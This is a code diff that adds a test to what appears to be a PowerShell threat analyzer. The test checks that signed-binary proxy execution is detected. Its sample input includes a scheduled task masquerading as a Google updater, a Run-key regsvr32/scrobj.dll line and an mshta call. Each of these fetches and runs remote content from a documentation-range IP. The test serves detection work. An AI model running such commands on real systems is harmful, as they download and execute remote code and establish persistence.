@@ -82,3 +82,14 @@ def test_run_key_written_through_the_dotnet_registry_api() -> None:
         $read.GetValueNames()
     """)
     assert lines_of(result, "PSPersistenceRunKey") == [2, 5, 6]
+
+
+def test_signed_proxy_running_remote_content_in_a_command_line_string() -> None:
+    result = analyze("""
+        schtasks /create /sc minute /mo 30 /tn "GoogleUpdateTaskMachine" /tr "mshta.exe http://198.51.100.7/t.hta" /f
+        Set-ItemProperty -Path $run -Name u -Value 'regsvr32 /s /i:https://198.51.100.7/x.sct scrobj.dll'
+        mshta.exe http://198.51.100.7/direct.hta
+        Write-Host "Install it with: msiexec /i https://contoso.example/agent.msi"
+        schtasks /create /tn Backup /tr "msiexec /i C:\\pkg\\agent.msi /qn" /sc daily
+    """)
+    assert lines_of(result, "PSDownloadCradle") == [1, 2, 3]
